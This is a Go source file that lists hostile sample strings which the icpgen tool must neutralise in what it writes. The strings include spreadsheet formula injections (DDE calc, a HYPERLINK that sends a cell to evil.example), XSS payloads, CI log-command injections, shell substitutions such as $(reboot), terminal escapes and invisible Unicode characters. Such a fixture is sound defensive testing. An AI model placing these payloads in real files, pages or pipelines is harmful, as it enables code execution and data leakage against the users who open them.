package sample

// HostileTexts are what a sheet may hold in order to become more than text
// where it is shown: formulas, links, markup, scripts, commands and escapes of
// terminals, of XML, of workflow logs, and characters that are not seen. None
// may take effect in anything that icpgen writes.
var HostileTexts = []string{
	// formulas of spreadsheets, and what a spreadsheet's text decodes to
	`=1+1`, `=HYPERLINK("http://evil.example/?"&A1,"点这里")`, `=cmd|'/C calc'!A0`, `+cmd|'/C calc'!A0`, `-2+3`, `@SUM(1,1)`,
	"\t=1+1", "\r=1+1", `＝1+1`, `'=1+1`, `=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("http://evil.example/")`, `_x003D_1+1`, `_x005F_x003D_1`, `_x000D__x000A_=1+1`,
	// markup and scripts
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `javascript:alert(1)`, `<a href="javascript:alert(1)">甲</a>`,
	`]]><b>甲</b>`, `<!--`, `<!DOCTYPE x [<!ENTITY a "b">]>`, `&lt;b&gt;`, `&#x202E;`, `[点这里](http://evil.example/)`, `![](http://evil.example/a.png)`, "`whoami`",
	// commands of logs, terminals and shells
	`::error::甲`, "甲\n::set-output name=a::b", "甲\r\n::add-mask::b", `%0A::warning::甲`, `##vso[task.complete result=Failed]`, `$(reboot)`,
	"\x1b[2J\x1b[31m红", "\x1b]8;;http://evil.example/\x07甲\x1b]8;;\x07", "甲\b\b乙", "\x7f",
	// characters that steer instead of being seen
	"甲\u202e乙\u202c", "\u2066甲\u2069", "甲\u200b乙", "\ufeff甲", "甲\u2028乙", "甲\u0085乙", "甲\ufff9乙\ufffb", "\U000e0041", "甲\ufffe\uffff",
	// our own signs
	`【icpgen】`, `甲【／icpgen】乙`, `icpgen 检查汇总`, `检查结果`,
}
